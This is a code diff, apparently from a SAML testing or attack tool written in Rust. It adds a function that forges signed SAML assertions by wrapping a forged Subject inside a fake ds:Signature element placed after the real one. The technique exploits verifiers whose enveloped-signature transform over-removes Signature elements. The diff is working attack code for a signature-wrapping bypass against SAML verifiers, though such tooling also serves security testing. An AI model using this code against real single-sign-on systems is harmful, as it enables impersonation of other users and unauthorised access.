@@ -5,7 +5,7 @@ use crate::crypto::{reference_digest, seed_digest_method, signed_info};
 use crate::family::{evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
-use saml_protocol::{DSIG_NS, PROTOCOL_NS};
+use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
 
 const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";
 
@@ -115,4 +115,25 @@ fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<S
         ),
     ];
     Ok(crate::family::cut(doc.src, si.range(), edits))
+}
+
+/// A fake `ds:Signature` right after the Assertion's real one, holding a forged Subject: a
+/// verifier whose enveloped transform drops every Signature inside the Assertion digests the
+/// original bytes, and a reader taking the first NameID below the Assertion reads the forged
+/// one (enveloped-signature over-removal).
+pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let subject = child(p.assertion, ASSERTION_NS, "Subject")
+        .ok_or_else(|| Skip::NotApplicable("the Assertion has no Subject".into()))?;
+    let (edits, swap) = identity::rewrite_edits(&doc, subject.range(), &identity::forger(&doc));
+    if swap.forged.is_empty() {
+        return Err(Skip::NotApplicable(
+            "the Subject has no NameID to forge".into(),
+        ));
+    }
+    let forged_subject = crate::family::cut(doc.src, subject.range(), edits);
+    let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\">{forged_subject}</ds:Signature>");
+    forged(splice(doc.src, vec![insert(sig.range().end, fake)]), swap)
 }
